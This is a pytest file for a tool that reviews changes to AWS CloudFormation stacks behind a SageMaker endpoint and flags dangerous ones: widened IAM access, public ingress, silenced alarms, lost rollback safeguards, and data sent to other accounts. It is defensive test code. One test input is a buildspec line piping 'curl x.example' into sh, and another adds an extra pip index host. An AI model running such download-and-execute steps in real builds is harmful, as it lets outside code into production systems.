"""Single changes of a small stack: dangers, notes and harmless changes."""

import copy
from pathlib import Path
from typing import Any

import pytest

from release.templates import Template
from review.access.grants import grant_sentences
from review.comparison import Comparison
from review.dangers import dangers
from review.endpoint_changes import endpoint_changes
from review.money import cost_changes
from review.stack_changes import notes
from tests.unit.review.edits import PROD, Edit, add, compare, drop, put, together
from tests.unit.review.resources import RESOURCES

OTHER_ACCOUNT = "999999999999"
TENSOR = '{"name": "VECTOR", "datatype": "FP32", "shape": [384]}'
ENTRY = (
    '{"model": "minilm", "version": "1", "signature": '
    f'{{"inputs": [], "outputs": [{TENSOR}], "max_batch_size": 1}}}}'
)


def arn(service: str, name: str, account: str = OTHER_ACCOUNT) -> str:
    return f"arn:aws:{service}:us-east-1:{account}:{name}"


def statement(action: Any, resource: Any = "*", **keys: Any) -> dict[str, Any]:
    return {"Effect": "Allow", "Action": action, "Resource": resource, **keys}


def schedule(name: str, hour: int, minimum: int) -> dict[str, Any]:
    return {
        "ScheduledActionName": name,
        "Schedule": f"cron(0 {hour} ? * * *)",
        "Timezone": "UTC",
        "ScalableTargetAction": {"MinCapacity": minimum, "MaxCapacity": 10},
    }


PAGER = arn("sns", "pager", account="111111111111")


def alarm(**properties: Any) -> dict[str, Any]:
    return {
        "Type": "AWS::CloudWatch::Alarm",
        "Properties": {
            "Namespace": "AWS/SageMaker",
            "ComparisonOperator": "GreaterThanThreshold",
            "EvaluationPeriods": 3,
            "DatapointsToAlarm": 2,
            "Period": 60,
            "MetricName": "ModelLatency",
            "Statistic": "Average",
            "Threshold": 1_000_000,
            "AlarmActions": [PAGER],
            "Dimensions": [{"Name": "VariantName", "Value": "AllTraffic"}],
            **properties,
        },
        "Metadata": {"aws:cdk:path": "prod-text/Latency/Resource"},
    }


def role(*statements: dict[str, Any]) -> dict[str, Any]:
    trust = {"Action": "sts:AssumeRole", "Principal": {"Service": "codebuild.amazonaws.com"}}
    return {
        "Type": "AWS::IAM::Role",
        "Properties": {
            "AssumeRolePolicyDocument": {"Statement": [{"Effect": "Allow", **trust}]},
            "Policies": [{"PolicyDocument": {"Statement": [*statements]}}],
        },
    }


def base_resources() -> dict[str, Any]:
    """Return the resources of the stack before each change."""
    resources = copy.deepcopy(RESOURCES)
    endpoint = resources["Endpoint"]["Properties"]
    endpoint["RetainAllVariantProperties"] = True
    endpoint["DeploymentConfig"] = {
        "AutoRollbackConfiguration": {"Alarms": [{"AlarmName": {"Ref": "Latency"}}]},
        "BlueGreenUpdatePolicy": {
            "TerminationWaitInSeconds": 300,
            "TrafficRoutingConfiguration": {
                "Type": "CANARY",
                "CanarySize": {"Type": "CAPACITY_PERCENT", "Value": 10},
                "WaitIntervalInSeconds": 600,
            },
        },
    }
    resources["Config"]["Properties"]["DataCaptureConfig"] = {
        "EnableCapture": True,
        "InitialSamplingPercentage": 100,
        "CaptureOptions": [{"CaptureMode": "Input"}],
        "DestinationS3Uri": {"Fn::Join": ["", ["s3://", {"Ref": "Bucket"}, "/captured"]]},
        "KmsKeyId": {"Fn::GetAtt": ["Key", "Arn"]},
    }
    resources["Group"]["Properties"]["SecurityGroupEgress"] = [{"CidrIp": "10.0.0.0/16"}]
    resources["Model"]["Properties"]["VpcConfig"]["Subnets"] = ["a", "b"]
    resources["Entry"]["Properties"]["Value"] = ENTRY
    resources["Endpoint"]["DependsOn"] = ["Guard"]
    trust = resources["FunctionRole"]["Properties"]["AssumeRolePolicyDocument"]["Statement"]
    trust["Condition"] = {"StringEquals": {"aws:SourceAccount": "111111111111"}}
    return resources | {
        "Key": {
            "Type": "AWS::KMS::Key",
            "Properties": {"KeyPolicy": {"Statement": [statement(
                "kms:Decrypt", Principal={"AWS": {"Fn::GetAtt": ["Role", "Arn"]}})]}},
        },
        "Gateway": {
            "Type": "AWS::EC2::VPCEndpoint",
            "Properties": {
                "VpcId": "vpc-1",
                "PolicyDocument": {"Statement": [statement(
                    "s3:GetObject", Principal="*")]},
            },
        },
        "Scaling": {
            "Type": "AWS::ApplicationAutoScaling::ScalableTarget",
            "Properties": {
                "MinCapacity": 2,
                "MaxCapacity": 10,
                "ResourceId": "endpoint/prod-text/variant/AllTraffic",
                "ScheduledActions": [
                    schedule("morning", 6, 6),
                    schedule("evening", 18, 2),
                ],
            },
        },
        "BuildRole": role(statement("s3:GetObject", "arn:aws:s3:::models/*")),
        "Build": {
            "Type": "AWS::CodeBuild::Project",
            "Properties": {
                "ServiceRole": {"Fn::GetAtt": ["BuildRole", "Arn"]},
                "Environment": {"Image": "public.ecr.aws/docker/library/python@sha256:1"},
                "Source": {"BuildSpec": "phases:\n  - make\n"},
            },
        },
        "Function": {
            "Type": "AWS::Lambda::Function",
            "Properties": {
                "Code": {"S3Bucket": "cdk-assets", "S3Key": "a.zip"},
                "Role": {"Fn::GetAtt": ["FunctionRole", "Arn"]},
            },
        },
        "Latency": alarm(),
        "Subscription": {
            "Type": "AWS::SNS::Subscription",
            "Properties": {
                "Protocol": "email", "Endpoint": "a@example.com", "TopicArn": {"Ref": "Topic"}},
        },
        "TopicPolicy": {
            "Type": "AWS::SNS::TopicPolicy",
            "Properties": {"Topics": [{"Ref": "Topic"}], "PolicyDocument": {"Statement": [
                statement("sns:Publish", Principal={"Service": "cloudwatch.amazonaws.com"}),
                {"Effect": "Deny", "Action": "sns:Publish", "NotResource": ["a"],
                 "Principal": "*"},
            ]}},
        },
        "ScalingPolicy": {
            "Type": "AWS::ApplicationAutoScaling::ScalingPolicy",
            "Properties": {"TargetTrackingScalingPolicyConfiguration": {
                "TargetValue": 100, "ScaleOutCooldown": 60,
                "PredefinedMetricSpecification": {
                    "PredefinedMetricType": "SageMakerVariantInvocationsPerInstance"}}},
        },
        "Archive": {
            "Type": "Custom::TritonModel",
            "Properties": {"Bucket": {"Ref": "Bucket"}, "Model": "minilm", "Target": "cpu",
                           "Digest": "1"},
        },
        "Guard": {
            "Type": "Custom::TritonUpdateGuard",
            "Properties": {"Endpoint": "prod-text", "Archives": ["minilm-1.tar.gz"]},
        },
        "Check": {"Type": "Custom::TritonUpdateCheck", "Properties": {"Endpoint": "prod-text"}},
    }  # fmt: skip


def review(edit: Edit, **file: Any) -> tuple[list[str], str]:
    """Return rule, message and details of each danger, and all other texts of the review.

    `file` has changed values of the stage's file.
    """
    before, after = base_resources(), base_resources()
    edit(after)
    comparison = compare(before, after, file_after=PROD.model_copy(update=file))
    texts = [endpoint.sentence for endpoint in endpoint_changes(comparison)]
    texts += [*notes(comparison), *map(str, cost_changes(comparison))]
    messages = [
        f"{danger.rule}: {danger.message} {danger.details}" for danger in dangers(comparison)
    ]
    return messages, "\n".join(texts)


CONTAINER = ("Model", "PrimaryContainer")
VARIANT = ("Config", "ProductionVariants", 0)
BLUE_GREEN = ("Endpoint", "DeploymentConfig", "BlueGreenUpdatePolicy")
ROUTING = (*BLUE_GREEN, "TrafficRoutingConfiguration")
CAPTURE = ("Config", "DataCaptureConfig")
ACTIONS = ("Scaling", "ScheduledActions")
STATEMENT = ("Policy", "PolicyDocument", "Statement", 0)
RENAMED_ROLE = together(
    drop("BuildRole"),
    add(Renamed=role(
        statement("s3:GetObject", "arn:aws:s3:::models/*"),
        statement(["s3:PutObject", "s3:DeleteObject"], "arn:aws:s3:::models/*"),
    )),
    put("Build", "ServiceRole", {"Fn::GetAtt": ["Renamed", "Arn"]}),
)  # fmt: skip
LINEAR = {
    "Type": "LINEAR",
    "LinearStepSize": {"Type": "CAPACITY_PERCENT", "Value": 50},
    "WaitIntervalInSeconds": 0,
}
REPLICA = {"Bucket": "arn:aws:s3:::theirs", "Account": OTHER_ACCOUNT}

DANGERS: dict[str, tuple[Edit, str]] = {
    # AWS's defaults
    "VPC endpoint policy removed": (
        drop("Gateway", "PolicyDocument"),
        "widened_access: anyone in the VPC may now * on Gateway",
    ),
    "key policy removed": (
        drop("Key", "KeyPolicy"),
        "widened_access: arn:aws:iam::${AWS::AccountId}:root may now kms:* on Key",
    ),
    "security group without egress rules": (
        drop("Group", "SecurityGroupEgress"),
        "internet_routes: AWS::EC2::SecurityGroup prod-text/Group: the security group allows "
        "egress to anywhere",
    ),
    # replaced roles
    "role renamed with more permissions": (
        RENAMED_ROLE,
        "widened_access: Renamed may now s3:DeleteObject, s3:PutObject on arn:aws:s3:::models/*",
    ),
    # policies
    "NotAction": (
        put(*STATEMENT, {"Effect": "Allow", "NotAction": "iam:*", "Resource": "*"}),
        "widened_access: Role may now everything except iam:* on *",
    ),
    "NotResource": (
        put(*STATEMENT, {"Effect": "Allow", "Action": "s3:GetObject", "NotResource": "a"}),
        "widened_access: Role may now s3:GetObject on everything except a",
    ),
    "NotPrincipal": (
        put("Gateway", "PolicyDocument", "Statement", 0, {
            "Effect": "Allow", "Action": "s3:*", "Resource": "*",
            "NotPrincipal": {"AWS": arn("iam", "root")}}),
        "widened_access: anyone in the VPC may now s3:* on Gateway",
    ),
    "condition value changed": (
        put(*STATEMENT, "Condition", {"StringLike": {"s3:prefix": ["other/*"]}}),
        "widened_access: Role may now s3:GetObject, s3:ListBucket on Bucket: the condition "
        "changes: s3:prefix StringLike text/* -> s3:prefix StringLike other/*",
    ),
    "condition removed": (
        drop(*STATEMENT, "Condition"),
        "on Bucket: the condition s3:prefix StringLike text/* is removed",
    ),
    "Deny statement narrowed": (
        put("BucketPolicy", "PolicyDocument", "Statement", 0, "Action", "s3:GetObject"),
        "widened_access: anyone is no longer denied s3:* on Bucket",
    ),
    # amounts
    "canary replaced by linear steps without a wait": (
        put(*ROUTING, LINEAR),
        "lost_rollback: prod-text: traffic shifts to new instances in 0 s, before 600 s: less than "
        "the 180 s that the rollback alarms evaluate",
    ),
    "old instances terminated at once": (
        put(*BLUE_GREEN, "TerminationWaitInSeconds", 0),
        "lost_rollback: prod-text: old instances stay for 0 s, before 300 s: less than the 180 s",
    ),
    "instance counts no longer retained": (
        put("Endpoint", "RetainAllVariantProperties", False),
        "reset_instance_counts: prod-text: updates no longer keep the current number of "
        "instances: they set the initial number, independent of the load (AllTraffic: 2 of up to",
    ),
    "instance count excluded from the retained properties": (
        put("Endpoint", "ExcludeRetainedVariantProperties",
            [{"VariantPropertyType": "DesiredInstanceCount"}]),
        "reset_instance_counts: prod-text: ",
    ),
    "1 % of requests captured": (
        put(*CAPTURE, "InitialSamplingPercentage", 1),
        "lost_logging: AWS::SageMaker::EndpointConfig prod-text/Config: requests are no longer "
        "captured: 100 % of requests -> 1 % of requests",
    ),
    "scalable target deleted": (
        drop("Scaling"),
        "lost_scaling: AWS::ApplicationAutoScaling::ScalableTarget prod-text/Scaling: AllTraffic "
        "is no longer scaled: 2 instances, before 2 to 10",
    ),
    "maximum lowered to the minimum": (
        together(put("Scaling", "MaxCapacity", 2), drop("Scaling", "ScheduledActions")),
        "lost_scaling: AWS::ApplicationAutoScaling::ScalableTarget prod-text/Scaling: AllTraffic "
        "over a week: 2 to 10 (on average 4 to 10) -> 2 to 2 instances",
    ),
    "maximum multiplied by ten": (
        together(put("Scaling", "MaxCapacity", 100), drop("Scaling", "ScheduledActions")),
        "multiplied_capacity: AWS::ApplicationAutoScaling::ScalableTarget prod-text/Scaling: "
        "AllTraffic over a week: 2 to 10 (on average 4 to 10) -> 2 to 100",
    ),
    "no schedule raises the minimum": (
        put(*ACTIONS, 0, schedule("morning", 12, 2)),
        "lost_scaling: AWS::ApplicationAutoScaling::ScalableTarget prod-text/Scaling: AllTraffic "
        "over a week: 2 to 10 (on average 4 to 10) -> 2 to 10 instances",
    ),
    "scale-out suspended": (
        put("Scaling", "SuspendedState", {"DynamicScalingOutSuspended": True}),
        "lost_safeguards: AWS::ApplicationAutoScaling::ScalableTarget prod-text/Scaling: scaling "
        "is suspended: SuspendedState.DynamicScalingOutSuspended: none -> true",
    ),
    # access
    "function role with more permissions": (
        put("Function", "Role", {"Fn::GetAtt": ["Role", "Arn"]}),
        "widened_access: AWS::Lambda::Function prod-text/Function: runs as another role, which may "
        "do more: FunctionRole -> Role",
    ),
    "execution role outside of the stage": (
        put("Model", "ExecutionRoleArn", "arn:aws:iam::111111111111:role/Admin"),
        "widened_access: AWS::SageMaker::Model prod-text/Model: runs as arn:aws:iam::111111111111:"
        "role/Admin, whose permissions are outside of the stage",
    ),
    "new model with a role outside of the stage": (
        add(New={
            "Type": "AWS::SageMaker::Model",
            "Properties": {"ExecutionRoleArn": "arn:aws:iam::111111111111:role/Admin"},
        }),
        "widened_access: AWS::SageMaker::Model prod-text/New: runs as arn:aws:iam::111111111111:",
    ),
    "other existing subnets": (
        put("Model", "VpcConfig", "Subnets", ["subnet-1", "subnet-2"]),
        "internet_routes: AWS::SageMaker::Model prod-text/Model: the instances are in other "
        "existing subnets: VpcConfig.Subnets: a, b -> subnet-1, subnet-2",
    ),
    "function URL without authentication": (
        add(Url={"Type": "AWS::Lambda::Url", "Properties": {"AuthType": "NONE"}}),
        "public_exposure: AWS::Lambda::Url prod-text/Url: lets anyone invoke a function",
    ),
    # origins
    "image in another account": (
        put(*CONTAINER, "Image", f"{OTHER_ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/t:1"),
        "new_origins: AWS::SageMaker::Model prod-text/Model: PrimaryContainer.Image names the "
        f"account {OTHER_ACCOUNT}, which the stage did not use before",
    ),
    "image in another registry": (
        put("Build", "Environment", "Image", "ghcr.io/somebody/python:3.11"),
        "Environment.Image names the registry ghcr.io/somebody",
    ),
    "function code in another bucket": (
        put("Function", "Code", "S3Bucket", "theirs"),
        "Code.S3Bucket names the bucket theirs",
    ),
    "bucket replication": (
        put("Bucket", "ReplicationConfiguration", {"Rules": [{"Destination": REPLICA}]}),
        "new_recipients: AWS::S3::Bucket prod-text/Bucket: copies its objects to another bucket",
    ),
    "log subscription": (
        add(Filter={"Type": "AWS::Logs::SubscriptionFilter", "Properties": {
            "LogGroupName": {"Ref": "Log"}, "DestinationArn": arn("logs", "destination:x")}}),
        "new_recipients: AWS::Logs::SubscriptionFilter prod-text/Filter: sends log events to "
        "another destination",
    ),
    "captured data in another bucket": (
        put(*CAPTURE, "DestinationS3Uri", "s3://theirs/captured"),
        "DataCaptureConfig.DestinationS3Uri names the bucket theirs",
    ),
    "alarm action in another account": (
        put("Latency", "AlarmActions", [arn("sns", "topic")]),
        f"AlarmActions names the account {OTHER_ACCOUNT}",
    ),
    # network access, copies of requests, safeguards, alarms
    "ingress from the internet in two halves": (
        put("Group", "SecurityGroupIngress", [{"CidrIp": "0.0.0.0/1"}, {"CidrIp": "128.0.0.0/1"}]),
        "public_exposure: AWS::EC2::SecurityGroup prod-text/Group: the security group admits the "
        "whole internet",
    ),
    "shadow variant": (
        put("Config", "ShadowProductionVariants", [{
            "VariantName": "Shadow", "InstanceType": "ml.g5.xlarge", "InitialInstanceCount": 2,
            "ModelName": {"Fn::GetAtt": ["Model", "ModelName"]}}]),
        "new_recipients: AWS::SageMaker::EndpointConfig prod-text/Config: copies of requests go to "
        "the shadow variant Shadow: 2 ml.g5.xlarge",
    ),
    "SSM access to instances": (
        put(*VARIANT, "EnableSSMAccess", True),
        "lost_safeguards: AWS::SageMaker::EndpointConfig prod-text/Config: allows login to "
        "instances through Systems Manager: ProductionVariants.EnableSSMAccess of AllTraffic: "
        "none -> true",
    ),
    "build command that downloads": (
        put("Build", "Source", "BuildSpec", "phases:\n  - make\n  - curl x.example | sh\n"),
        "build_downloads: AWS::CodeBuild::Project prod-text/Build: the build runs: - curl "
        "x.example | sh",
    ),
    "update guard deleted": (
        drop("Guard"),
        "lost_safeguards: Custom::TritonUpdateGuard prod-text/Guard: the endpoint is updated "
        "without UpdateGuard",
    ),
    "threshold raised": (
        put("Latency", "Threshold", 5_000_000),
        "weakened_alarms: AWS::CloudWatch::Alarm prod-text/Latency: the alarm is weaker: "
        "threshold 1,000 ms -> 5,000 ms",
    ),
    "period lengthened": (put("Latency", "Period", 300), "is weaker: period 60 s -> 300 s"),
    "more breaching periods required": (
        add(Latency=alarm(EvaluationPeriods=60, DatapointsToAlarm=60)),
        "the alarm is weaker: 2 of 3 breaching periods -> 60 of 60",
    ),
    "missing data ignored": (
        put("Latency", "TreatMissingData", "ignore"),
        "the alarm is weaker: treatment of missing data: missing -> ignore",
    ),
    "comparison operator reversed": (
        put("Latency", "ComparisonOperator", "LessThanThreshold"),
        "the alarm is weaker: GreaterThanThreshold -> LessThanThreshold",
    ),
    "alarm action removed": (
        drop("Latency", "AlarmActions"),
        "silenced_alarms: AWS::CloudWatch::Alarm prod-text/Latency: the alarm no longer notifies "
        "pager",
    ),
    "alarm actions disabled": (
        put("Latency", "ActionsEnabled", False),
        "the alarm sends no notifications: its actions are disabled",
    ),
    "subscription deleted": (
        drop("Subscription"),
        "silenced_alarms: AWS::SNS::Subscription prod-text/Subscription: email a@example.com is no "
        "longer notified by Topic",
    ),
    "subscription filter": (
        put("Subscription", "FilterPolicy", {"a": ["b"]}),
        "email a@example.com is notified of other messages by Topic: ",
    ),
    "metric changed": (
        put("Latency", "MetricName", "Other"),
        "the alarm has another metric: MetricName: ModelLatency -> Other",
    ),
    "IfExists condition": (
        put("FunctionRole", "AssumeRolePolicyDocument", "Statement", "Condition",
            {"StringEqualsIfExists": {"aws:SourceAccount": "111111111111"}}),
        "widened_access: lambda.amazonaws.com may now sts:AssumeRole on FunctionRole: the "
        "condition changes: aws:SourceAccount StringEquals 111111111111 -> aws:SourceAccount "
        "StringEqualsIfExists 111111111111",
    ),
    "statement for a service removed": (
        drop("TopicPolicy", "PolicyDocument", "Statement", 0),
        "lost_service_access: cloudwatch.amazonaws.com may no longer sns:Publish on Topic",
    ),
    "ingress from a public address": (
        put("Group", "SecurityGroupIngress", [{"CidrIp": "8.8.8.8/32"}, {"CidrIp": "10.0.0.0/8"}]),
        "public_exposure: AWS::EC2::SecurityGroup prod-text/Group: the security group admits the "
        "public network 8.8.8.8/32",
    ),
    "single zone": (
        put("Model", "VpcConfig", "Subnets", ["a"]),
        "low_availability: AWS::SageMaker::Model prod-text/Model: the instances are in a single "
        "zone: VpcConfig.Subnets: a, b -> a",
    ),
    "image without a digest": (
        put("Build", "Environment", "Image", "public.ecr.aws/docker/library/python:latest"),
        "lost_pins: AWS::CodeBuild::Project prod-text/Build: the build image is not pinned by "
        "digest: Environment.Image: public.ecr.aws/docker/library/python@sha256:1 -> ",
    ),
    "extra package index": (
        put("Build", "Environment", "EnvironmentVariables", [
            {"Name": "PIP_EXTRA_INDEX_URL", "Value": "https://pypi.example.com/simple"}]),
        "Environment.EnvironmentVariables.PIP_EXTRA_INDEX_URL.Value names the host "
        "pypi.example.com",
    ),
    "endpoint without a dependency on the guard": (
        lambda resources: resources["Endpoint"].update(DependsOn=[]),
        "lost_safeguards: prod-text: DependsOn: Guard removed",
    ),
    "guard without archives": (
        put("Guard", "Archives", []),
        "lost_safeguards: Custom::TritonUpdateGuard prod-text/Guard: updates no longer wait for "
        "the archives of minilm",
    ),
    "scale-out cooldown multiplied": (
        put("ScalingPolicy", "TargetTrackingScalingPolicyConfiguration", "ScaleOutCooldown", 7200),
        "lost_scaling: AWS::ApplicationAutoScaling::ScalingPolicy prod-text/ScalingPolicy: "
        "ScaleOutCooldown of InvocationsPerInstance: 60 -> 7200 s",
    ),
    "statistic lowered": (
        put("Latency", "Statistic", "Minimum"),
        "the alarm is weaker: Average -> Minimum",
    ),
}  # fmt: skip


@pytest.mark.parametrize("title", DANGERS)
def test_dangerous_change(title: str) -> None:
    edit, line = DANGERS[title]
    messages, _ = review(edit)
    assert [message for message in messages if line in message], messages


NOTES: dict[str, tuple[Edit, str]] = {
    "time zone of a schedule": (
        put(*ACTIONS, 0, "Timezone", "Asia/Tokyo"),
        "ScheduledActions.Timezone of morning: UTC -> Asia/Tokyo",
    ),
    "cost of a higher minimum": (drop(*ACTIONS, 1), f"minimum={6 * 1.4 * 730}"),
    "limit between schedules": (
        put("Scaling", "MinCapacity", 3),
        "MinCapacity between schedules: 2 -> 3",
    ),
    "update strategy": (
        put(*ROUTING, "WaitIntervalInSeconds", 900),
        "later updates: canary 10 % for 600 s, old instances stay 300 s -> canary 10 % for 900 s, "
        "old instances stay 300 s",
    ),
    "stricter threshold": (
        put("Latency", "Threshold", 500_000),
        "stricter: threshold 1,000 ms -> 500 ms",
    ),
    "data capture": (
        put(*CAPTURE, "InitialSamplingPercentage", 50),
        "data capture: 100 % of requests -> 50 % of requests",
    ),
    "new subscriber": (
        add(Mail={"Type": "AWS::SNS::Subscription", "Properties": {
            "Protocol": "email", "Endpoint": "b@example.com", "TopicArn": {"Ref": "Topic"}}}),
        "email b@example.com is notified by Topic",
    ),
    "budget": (lambda _: None, "max_monthly_usd none -> 90,000"),
}  # fmt: skip


@pytest.mark.parametrize("title", NOTES)
def test_change_is_only_a_note(title: str) -> None:
    edit, line = NOTES[title]
    messages, text = review(edit, max_monthly_usd=90_000)
    assert messages == []
    assert line in text


HARMLESS: dict[str, Edit] = {
    **{
        f"stricter: {properties}": add(Latency=alarm(**properties))
        for properties in (
            {"Threshold": 500_000},
            {"DatapointsToAlarm": 1},
            {"DatapointsToAlarm": 1, "EvaluationPeriods": 2},
            {"DatapointsToAlarm": 1, "EvaluationPeriods": 1},
            {"EvaluationPeriods": 5},
            {"Period": 10},
            {"TreatMissingData": "breaching"},
            {"Statistic": "Maximum"},
            {"ComparisonOperator": "GreaterThanOrEqualToThreshold"},
        )
    },
    "role renamed with the same permissions": together(
        drop("BuildRole"),
        add(Renamed=role(statement("s3:GetObject", "arn:aws:s3:::models/*"))),
        put("Build", "ServiceRole", {"Fn::GetAtt": ["Renamed", "Arn"]}),
    ),
    "additional condition": put(*STATEMENT, "Condition", "Bool", {"aws:SecureTransport": "true"}),
    "action in another case": put(*STATEMENT, "Action", ["S3:getobject", "s3:ListBucket"]),
    "Deny statement widened": put("BucketPolicy", "PolicyDocument", "Statement", 0, "Action", "*"),
    "Deny statement without its condition": drop(
        "BucketPolicy", "PolicyDocument", "Statement", 0, "Condition"),
    "VPC endpoint policy narrowed": put(
        "Gateway", "PolicyDocument", "Statement", 0, "Resource", "arn:aws:s3:::models/*"),
    "ingress from private networks": put("Group", "SecurityGroupIngress", [
        {"CidrIp": "10.0.0.0/8"}, {"CidrIp": "172.16.0.0/12"}]),
    "linear steps with a wait": put(*ROUTING, {**LINEAR, "WaitIntervalInSeconds": 300}),
    "responses captured": put(*CAPTURE, "CaptureOptions", [
        {"CaptureMode": "Input"}, {"CaptureMode": "Output"}]),
    "maximum raised": put("Scaling", "MaxCapacity", 12),
    "alarm action in the same account": put(
        "Latency", "AlarmActions", [PAGER, arn("sns", "topic", account="111111111111")]),
    "shorter termination wait than before, longer than the alarms evaluate": put(
        *BLUE_GREEN, "TerminationWaitInSeconds", 200),
    "weight excluded from the retained properties": put(
        "Endpoint", "ExcludeRetainedVariantProperties", [{"VariantPropertyType": "DesiredWeight"}]),
    "rollback alarm renamed": together(
        lambda resources: resources.update(NewLatency=resources.pop("Latency")),
        put("Endpoint", "DeploymentConfig", "AutoRollbackConfiguration", "Alarms",
            [{"AlarmName": {"Ref": "NewLatency"}}]),
    ),
    "scale-out cooldown of 0": put(
        "ScalingPolicy", "TargetTrackingScalingPolicyConfiguration", "ScaleOutCooldown", 0),
    "scalable target renamed": lambda resources: resources.update(
        NewScaling=resources.pop("Scaling")),
    "topic policy narrowed": put("TopicPolicy", "PolicyDocument", "Statement", 0, "Condition",
        {"StringEquals": {"aws:SourceAccount": "111111111111"}}),
    "new role with few permissions": add(
        New=role(statement("s3:GetObject", "arn:aws:s3:::m/*"))),
}  # fmt: skip


@pytest.mark.parametrize("title", HARMLESS)
def test_harmless_change(title: str) -> None:
    after = base_resources()
    HARMLESS[title](after)
    assert after != base_resources()
    assert review(HARMLESS[title])[0] == []


def test_disabled_data_capture_does_not_report_its_key() -> None:
    (danger,) = review(drop("Config", "DataCaptureConfig"))[0]
    assert danger.startswith("lost_logging")


def test_role_may_write_captured_data() -> None:
    before, after = base_resources(), base_resources()
    del before["Config"]["Properties"]["DataCaptureConfig"]
    document = after["Policy"]["Properties"]["PolicyDocument"]
    captured = {"Fn::Join": ["", [{"Fn::GetAtt": ["Bucket", "Arn"]}, "/captured/*"]]}
    key = {"Fn::GetAtt": ["Key", "Arn"]}
    document["Statement"] += [
        statement("s3:PutObject", captured),
        statement(["kms:Decrypt", "kms:GenerateDataKey"], key),
    ]
    assert dangers(compare(before, after)) == []


def test_egress_rules_of_an_isolated_vpc_are_harmless() -> None:
    group = copy.deepcopy(RESOURCES["Group"])
    group["Properties"] |= {
        "SecurityGroupEgress": [{"CidrIp": "0.0.0.0/0"}],
        "VpcId": {"Ref": "Vpc"},
    }
    network = {"Vpc": {"Type": "AWS::EC2::VPC", "Properties": {}}, "Group": group}
    after: dict[str, Template] = {"prod-network": {"Resources": network}}
    assert dangers(Comparison("prod", {}, after, PROD, PROD)) == []
    gateway = {"Nat": {"Type": "AWS::EC2::NatGateway", "Properties": {}}}
    after = {"prod-network": {"Resources": network | gateway}}
    assert len(dangers(Comparison("prod", {}, after, PROD, PROD))) == 2


def test_same_change_of_several_endpoints_is_one_danger() -> None:
    def stacks(seconds: int) -> dict[str, Template]:
        stacks_by_name: dict[str, Template] = {}
        for name in ("prod-a", "prod-b", "prod-c"):
            resources = base_resources()
            put("Endpoint", "EndpointName", name)(resources)
            put(*ROUTING, "WaitIntervalInSeconds", seconds)(resources)
            stacks_by_name[name] = {"Resources": resources}
        return stacks_by_name

    (danger,) = dangers(Comparison("prod", stacks(600), stacks(0), PROD, PROD))
    assert danger.message.startswith("prod-a, prod-b, prod-c: traffic shifts to new instances")
    assert [detail.partition(":")[0] for detail in danger.details] == ["prod-a", "prod-b", "prod-c"]


@pytest.mark.parametrize(
    ("batching", "counts", "is_danger"),
    [
        (("", "sequence_batching { }"), (2, 2), True),
        (("sequence_batching { }", "sequence_batching { }"), (1, 2), True),
        (("sequence_batching { }", "sequence_batching { }"), (2, 3), False),
        (("", "sequence_batching { }"), (1, 1), False),
        (("", "# sequence_batching { }"), (2, 2), False),
    ],
)
def test_sequence_batching_on_several_instances(
    tmp_path: Path, batching: tuple[str, str], counts: tuple[int, int], is_danger: bool
) -> None:
    sides = []
    for side, text, count in zip(("before", "after"), batching, counts, strict=True):
        config = tmp_path / side / "minilm" / "minilm" / "config.pbtxt"
        config.parent.mkdir(parents=True)
        config.write_text(f'name: "minilm"\n{text}\n')
        resources = copy.deepcopy(RESOURCES)
        put(*VARIANT, "InitialInstanceCount", count)(resources)
        sides.append(resources)
    comparison = compare(*sides, models=(tmp_path / "before", tmp_path / "after"))
    messages = [
        danger.message for danger in dangers(comparison) if danger.rule == "split_sequences"
    ]
    assert messages == is_danger * [
        "minilm of prod-text uses sequence batching, but SageMaker sends the requests of a "
        f"sequence to up to {counts[1]} instances, which do not share its state"
    ]


def test_access_to_a_renamed_resource_is_not_new() -> None:
    before, after = base_resources(), base_resources()
    for resources, name in ((before, "Function"), (after, "Renamed")):
        resources[name] = resources.pop("Function")
        put(*STATEMENT, "Resource", {"Fn::GetAtt": [name, "Arn"]})(resources)
    assert dangers(compare(before, after)) == []
    put("Renamed", "Timeout", 900)(after)
    assert [danger.rule for danger in dangers(compare(before, after))] == ["widened_access"]


@pytest.mark.parametrize(("weights", "is_danger"), [((0, 1), True), ((8, 2), False)])
def test_tripled_traffic_share_is_a_danger(weights: tuple[int, int], *, is_danger: bool) -> None:
    before, after = base_resources(), base_resources()
    for side, (standard, large) in ((before, (9, 1)), (after, weights)):
        variants = side["Config"]["Properties"]["ProductionVariants"]
        variants[0]["InitialVariantWeight"] = standard
        variants.append({**variants[0], "VariantName": "Large", "InitialVariantWeight": large})
    text = "Large gets 10 % -> 100 % of the requests immediately, with the same number of instances"
    messages = [(danger.rule, danger.message) for danger in dangers(compare(before, after))]
    expected = f"AWS::SageMaker::EndpointConfig prod-text/Config: {text}"
    assert messages == ([("shifted_traffic", expected)] if is_danger else [])


def test_narrowed_access_is_shown_with_remaining_grants() -> None:
    before, after = base_resources(), base_resources()
    put(*STATEMENT, "Resource", "*")(before)
    (change,) = compare(before, after).access
    condition = "if s3:prefix StringLike text/*"
    assert grant_sentences(change.removed_grants, "may no longer") == [
        f"Role may no longer {action} on * {condition}, but may still {action} on Bucket"
        for action in ("s3:GetObject", "s3:ListBucket")
    ]
